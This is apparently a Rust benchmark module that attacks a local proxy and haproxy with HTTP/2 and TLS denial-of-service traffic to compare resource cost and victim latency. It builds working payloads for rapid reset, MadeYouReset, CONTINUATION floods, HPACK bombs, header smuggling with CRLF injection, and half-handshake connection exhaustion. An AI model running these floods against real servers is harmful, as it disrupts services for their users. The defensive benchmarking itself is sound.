//! Attacks by TLS and HTTP/2: what they cost the proxy, and whether another client notices.
//!
//! An attack is a bounded rate of events from one thread, which shares core 1 with the other client, the victim. The
//! victim's requests are due at fixed times. CPU time is that of an attack on a program without a victim; what the
//! program uses while it is idle is deducted. Memory is the growth during an attack beside the victim. An attacker whose
//! connection ends opens another, and counts what it could send.

use std::fmt::Write as _;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use super::handshakes::columns;
use super::material::{Key, bind, libraries};
use crate::bench::{median, resident_bytes};
use crate::proxy::peer::{Bench, Loaded, NEWER, Peer, Running};
use crate::report::{Options, Part, ratios};

/// Connections of an attack that holds them: 10,000, reduced so that a limit of 10,000 leaves some for the victim.
const CROWD: usize = 9_800;

/// The length of an attack by events, in seconds.
const SECONDS: u32 = 8;

/// The victim: connections and requests a second.
const VICTIM: &[&str] = &["-c", "4", "-r", "200", "-w", "500ms"];

/// Memory below this is not told from that of the victim and of the allocator.
const MEMORY_FLOOR_KIB: f64 = 512.0;

/// Connections that an attack by events holds at most, and events on each.
const HELD_MAX: usize = 400;
const EVENTS_MAX: u32 = 10_000;

/// An attack before the one that is measured.
const WARM_UP: Duration = Duration::from_millis(100);

/// The pace of the attacker: events are sent in batches.
const TICK: Duration = Duration::from_millis(5);

/// An attack.
struct Attack {
    name: &'static str,
    /// Events a second.
    rate: u32,
    /// Whether each event has a connection of its own, which is held.
    is_crowd: bool,
    /// Connections at most.
    most: usize,
    /// Bytes at the beginning of a connection.
    begin: fn() -> Vec<u8>,
    /// Bytes of an event, by its number on the connection.
    event: fn(u32) -> Vec<u8>,
    /// Whether the attacker reads what the proxy sends.
    reads: bool,
}

/// Returns a frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// `GET / HTTP/2` of host `h`, and the same of a page that is longer than windows.
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x01, 0x01, b'h'];
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 5;

/// Returns the number of a stream of a connection.
fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// Returns what a client sends first, with these settings.
fn greeting(settings: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(SETTINGS, 0, 0, settings)].concat()
}

fn open() -> Vec<u8> {
    greeting(&[])
}

/// An initial window of zero.
fn closed() -> Vec<u8> {
    greeting(&[0, 4, 0, 0, 0, 0])
}

/// Streams that are reset at once (CVE-2023-44487).
fn rapid_reset(number: u32) -> Vec<u8> {
    let stream = stream(number);
    [frame(HEADERS, WHOLE, stream, GET), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
}

/// Streams that the proxy has to reset (CVE-2025-8671).
fn made_you_reset(number: u32) -> Vec<u8> {
    let stream = stream(number);
    [frame(HEADERS, WHOLE, stream, GET), frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
}

/// A field block that does not end (CVE-2024-27316).
fn continuation(number: u32) -> Vec<u8> {
    match number {
        0 => frame(HEADERS, 1, 1, GET),
        _ => frame(CONTINUATION, 0, 1, &[]),
    }
}

/// A large entry of the table that is referred to many times.
fn hpack_bomb(number: u32) -> Vec<u8> {
    let mut block = GET.to_vec();
    if number == 0 {
        // A literal of 4000 bytes with incremental indexing: 127 + 3873 in two more bytes.
        block.extend([0x40, 1, b'a', 127, 0xa1, 30]);
        block.extend([b'v'; 4000]);
    }
    block.extend(std::iter::repeat_n(0x80 | 62, 10_000));
    frame(HEADERS, WHOLE, stream(number), &block)
}

/// Fields that would change the meaning of a request in HTTP/1.
fn smuggling(number: u32) -> Vec<u8> {
    const FIELDS: [(&str, &str); 5] = [
        ("transfer-encoding", "chunked"),
        ("Upper", "x"),
        ("a", "b\r\nc: d"),
        ("connection", "close"),
        (":path", "/b"),
    ];
    let (name, value) = FIELDS[number as usize % FIELDS.len()];
    let mut block = GET.to_vec();
    for text in [name, value] {
        if text == name {
            block.push(0);
        }
        block.push(text.len() as u8);
        block.extend(text.bytes());
    }
    frame(HEADERS, WHOLE, stream(number), &block)
}

fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

fn ping(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, b"attacked")
}

/// Requests of one stream each, for an answer that the windows or the client do not take.
fn request(number: u32) -> Vec<u8> {
    frame(HEADERS, WHOLE, stream(number), GET)
}

const FLOODS: &[Attack] = &[
    flood("rapid reset", 5_000, rapid_reset),
    flood("MadeYouReset", 5_000, made_you_reset),
    flood("CONTINUATION flood", 10_000, continuation),
    flood("HPACK bomb", 100, hpack_bomb),
    flood("SETTINGS flood", 10_000, settings),
    flood("PING flood", 10_000, ping),
    flood("smuggling", 2_000, smuggling),
    Attack { begin: closed, ..crowd("zero window", 50, request) },
    crowd("slow readers", 50, request),
];

/// Returns an attack on one connection at a time.
const fn flood(name: &'static str, rate: u32, event: fn(u32) -> Vec<u8>) -> Attack {
    Attack { name, rate, is_crowd: false, most: 1, begin: open, event, reads: true }
}

/// Returns an attack by connections that are not read from.
const fn crowd(name: &'static str, rate: u32, event: fn(u32) -> Vec<u8>) -> Attack {
    Attack { name, rate, is_crowd: true, most: HELD_MAX, begin: open, event, reads: false }
}

fn nothing() -> Vec<u8> {
    Vec::new()
}

/// A client's hello of TLS 1.3 for `localhost` with a share of X25519, as far as a proxy needs it.
fn hello(_: u32) -> Vec<u8> {
    let share = [&[0, 51, 0, 38, 0, 36, 0, 29, 0, 32][..], &[9; 32]].concat();
    let extensions = [
        &[0, 0, 0, 14, 0, 12, 0, 0, 9][..],
        b"localhost",
        &[0, 10, 0, 4, 0, 2, 0, 29],
        &[0, 13, 0, 4, 0, 2, 4, 3],
        &[0, 43, 0, 3, 2, 3, 4],
        &share,
    ]
    .concat();
    let mut body = [&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 0x01, 1, 0]].concat();
    body.extend((extensions.len() as u16).to_be_bytes());
    body.extend(extensions);
    let mut message = (body.len() as u32 | 1 << 24).to_be_bytes().to_vec();
    message.extend(body);
    let mut record = vec![22, 3, 1];
    record.extend((message.len() as u16).to_be_bytes());
    record.extend(message);
    record
}

/// The half of that.
fn half_hello(number: u32) -> Vec<u8> {
    let mut bytes = hello(number);
    bytes.truncate(bytes.len() / 2);
    bytes
}

const HALVES: &[Attack] = &[
    Attack { begin: nothing, most: CROWD, ..crowd("half a hello", 2_000, half_hello) },
    Attack { begin: nothing, most: CROWD, ..crowd("a hello alone", 2_000, hello) },
];

/// A connection of the attacker.
struct Line {
    stream: TcpStream,
    events: u32,
    /// What the kernel has not taken yet.
    rest: Vec<u8>,
}

impl Line {
    fn open(port: u16, attack: &Attack) -> Option<Line> {
        let stream = TcpStream::connect(("127.0.0.1", port)).ok()?;
        stream.set_nonblocking(true).ok()?;
        let mut line = Line { stream, events: 0, rest: Vec::new() };
        line.send(&(attack.begin)()).then_some(line)
    }

    /// Sends bytes, or keeps what the kernel does not take; returns false at the end of the connection.
    fn send(&mut self, bytes: &[u8]) -> bool {
        self.rest.extend_from_slice(bytes);
        match self.stream.write(&self.rest) {
            Ok(count) => _ = self.rest.drain(..count),
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(_) => return false,
        }
        true
    }

    /// Drops what the proxy has sent; returns false at the end of the connection.
    fn read(&mut self) -> bool {
        let mut buffer = [0; 65_536];
        loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) => return error.kind() == ErrorKind::WouldBlock,
            }
        }
    }
}

/// Attacks a port until `done`; returns the events that were sent, and what holds the connections.
fn attack(port: u16, attack: &Attack, done: &AtomicBool) -> (u32, Vec<Line>) {
    let mut lines: Vec<Line> = Vec::new();
    let (begun, mut sent) = (Instant::now(), 0);
    while !done.load(Ordering::Relaxed) {
        let due = (begun.elapsed().as_secs_f64() * f64::from(attack.rate)) as u32;
        // What could not be sent in time is not made up for beyond a batch.
        let batch = due.saturating_sub(sent).min(attack.rate / 20 + 1);
        for _ in 0..batch {
            if attack.is_crowd && lines.len() >= attack.most {
                break;
            }
            if (attack.is_crowd || lines.is_empty()) && !lines.extend_by(Line::open(port, attack)) {
                break;
            }
            let Some(line) = lines.last_mut() else { break };
            if !line.rest.is_empty() && !line.send(&[]) {
                lines.pop();
                continue;
            }
            if !line.rest.is_empty() {
                // The proxy does not read.
                break;
            }
            let is_open = line.send(&(attack.event)(line.events)) && line.events < EVENTS_MAX;
            line.events += 1;
            sent += 1;
            if !is_open && !attack.is_crowd {
                lines.pop();
            }
        }
        if attack.reads {
            lines.retain_mut(Line::read);
        }
        std::thread::sleep(TICK);
    }
    (sent, lines)
}

trait ExtendBy<T> {
    /// Adds what there is; returns whether there was something.
    fn extend_by(&mut self, item: Option<T>) -> bool;
}

impl<T> ExtendBy<T> for Vec<T> {
    fn extend_by(&mut self, item: Option<T>) -> bool {
        let is_there = item.is_some();
        self.extend(item);
        is_there
    }
}

/// The figures of one attack on one program.
struct Cost {
    cpu_us: f64,
    kib: f64,
    quiet_ms: f64,
    attacked_ms: f64,
}

fn cost(bench: &Bench<'_>, peer: Peer, text: &str, by: &Attack) -> Result<Cost, String> {
    let begin = || {
        let program = peer.start(bench, text)?;
        // Once, so that what exists once does not count, code that is read from the file included.
        bench.load(&program, "/alive", &["-c", "5", "-n", "50"])?;
        attacked_during(program.port, by, || std::thread::sleep(WARM_UP))?;
        Ok::<_, String>(program)
    };
    let seconds = if by.most == CROWD { by.most as u32 / by.rate + 3 } else { SECONDS };
    let duration = seconds.to_string();
    let words = [VICTIM, &["-d", &duration]].concat();
    let mut program = begin()?;
    let quiet = bench.load(&program, "/alive", &words)?;
    let cpu_us = cpu_of_an_event(&program, by, Duration::from_secs(seconds.into()))?;
    if by.is_crowd {
        // The connections that were held have left memory to their successors.
        drop(program);
        program = begin()?;
    }
    let memory = resident_bytes(program.id())?;
    let (sent, (attacked, after)) = attacked_during(program.port, by, || {
        (bench.load_that_may_fail(&program, "/alive", &words), resident_bytes(program.id()))
    })?;
    // A victim that gets no answer at all waits for ever.
    let attacked_ms = match attacked {
        Ok(Loaded { failed: 0.0, p99_ms, .. }) => p99_ms,
        Ok(Loaded { failed, p99_ms, .. }) => {
            println!("{}: {failed} of the victim's requests failed", peer.name());
            p99_ms
        }
        Err(error) => {
            println!("{}: {error}", peer.name());
            f64::INFINITY
        }
    };
    let kib = (after? - memory) / 1024.0;
    Ok(Cost {
        cpu_us,
        // At the floor both programs have the same figure, whatever number of events each of them could take.
        kib: if kib > MEMORY_FLOOR_KIB { kib / sent } else { MEMORY_FLOOR_KIB / f64::from(seconds * by.rate) },
        quiet_ms: quiet.p99_ms,
        attacked_ms,
    })
}

/// Attacks a program that serves nobody else; returns the CPU time of an event, in µs, without that of an idle program.
fn cpu_of_an_event(program: &Running, by: &Attack, time: Duration) -> Result<f64, String> {
    let cpu_during = |pause: Duration| {
        let started = program.cpu_us();
        std::thread::sleep(pause);
        program.cpu_us() - started
    };
    let idle_us = cpu_during(Duration::from_secs(1)) * time.as_secs_f64();
    let (sent, used_us) = attacked_during(program.port, by, || cpu_during(time))?;
    Ok((used_us - idle_us).max(0.0) / sent)
}

/// Attacks a port while `work` runs; returns the number of events, at least 1, and the result of the work.
fn attacked_during<T>(port: u16, by: &Attack, work: impl FnOnce() -> T) -> Result<(f64, T), String> {
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        let attacker = scope.spawn(|| attack(port, by, &done));
        let result = work();
        done.store(true, Ordering::Relaxed);
        let (sent, lines) = attacker.join().map_err(|_| "the attacker has failed".to_owned())?;
        drop(lines);
        Ok((f64::from(sent.max(1)), result))
    })
}

/// Runs attacks on both programs in turn.
fn compare(part: &mut Part, bench: &Bench<'_>, text: &str, attacks: &[Attack]) -> Result<(), String> {
    // Threads of this process and its children share core 1 with the victim.
    let own = std::process::id().to_string();
    for (program, words) in [("taskset", ["-cp", "1", &own]), ("prlimit", ["--nofile=20000:", "--pid", &own])] {
        let output = Command::new(program).args(words).output().map_err(|error| format!("{program}: {error}"))?;
        if !output.status.success() {
            return Err(format!("{program}: {}", String::from_utf8_lossy(&output.stderr).trim()));
        }
    }
    let mut tables = [(); 4].map(|()| Vec::new());
    for by in attacks {
        let mut rows = [(); 4].map(|()| vec![Vec::new(), Vec::new()]);
        for _ in bench.options.rounds() {
            for (index, peer) in NEWER.into_iter().enumerate() {
                let Cost { cpu_us, kib, quiet_ms, attacked_ms } = cost(bench, peer, text, by)?;
                println!(
                    "{:<20} {:<12} {cpu_us:>8.2} µs and {kib:>8.3} KiB an event; p99 {quiet_ms:.2} ms, attacked {attacked_ms:.2} ms",
                    by.name,
                    peer.name()
                );
                let figures = [cpu_us, kib, quiet_ms, attacked_ms];
                rows.iter_mut().zip(figures).for_each(|(row, figure)| row[index].push(figure));
            }
        }
        let [cpu, memory, quiet, attacked] = &rows;
        for (what, row) in [("CPU", cpu), ("memory", memory)] {
            let name = format!("{what} of an event, {}, ours / haproxy's", by.name);
            part.goal(&name, "≤ 1", median(&ratios(row)), |ratio| ratio <= 1.0);
        }
        let most = (2.0 * median(&quiet[1])).max(1.2 * median(&attacked[0]));
        let name = format!("the victim's p99, {}, ms", by.name);
        part.goal(&name, &format!("≤ {most:.2}"), median(&attacked[1]), |p99| p99 <= most);
        tables.iter_mut().zip(rows).for_each(|(table, row)| table.push(row));
    }
    let names =
        ["CPU of an event, µs", "memory of an event, KiB", "victim's p99 before, ms", "victim's p99 attacked, ms"];
    for (name, table) in names.into_iter().zip(&tables) {
        part.table(name, &columns(), attacks.iter().map(|by| by.name), table);
        part.text.push('\n');
    }
    Ok(())
}

/// `halves`: connections with a part of a hello, or with a hello and nothing behind it.
pub(super) fn halves(options: &Options) -> Result<Part, String> {
    let mut part = Part::new("halves", "Half handshakes");
    let bench = Bench::new(options)?;
    let text = format!(
        "global\n    nbthread 1\n    maxconn 9900\ndefaults\n    mode http\n    timeout client 5m\n    \
         timeout server 1m\n    timeout connect 1s\nlisten www\n    bind 127.0.0.1:PORT {}\n    \
         http-request redirect location /ok\n",
        bind(&bench, Key::Ecdsa, "1.3", "http/1.1")?
    );
    let _ = writeln!(part.text, "{} {CROWD} connections.\n", libraries(&bench));
    compare(&mut part, &bench, &text, HALVES)?;
    Ok(part)
}

/// `floods`: frames of HTTP/2.
pub(super) fn floods(options: &Options) -> Result<Part, String> {
    let mut part = Part::new("floods", "Attacks by HTTP/2");
    let bench = Bench::new(options)?;
    let text = format!(
        "global\n    nbthread 1\n    maxconn 9900\ndefaults\n    mode http\n    timeout client 1m\n    \
         timeout server 1m\n    timeout connect 1s\nlisten www\n    bind 127.0.0.1:PORT\n    \
         http-request redirect location /ok if {{ path /alive }}\n    server p {}\n",
        bench.origin()
    );
    let rates: Vec<String> = FLOODS.iter().map(|by| format!("{} {}", by.name, by.rate)).collect();
    let _ = writeln!(part.text, "Events a second: {}; {SECONDS} s each.\n", rates.join(", "));
    compare(&mut part, &bench, &text, FLOODS)?;
    Ok(part)
}
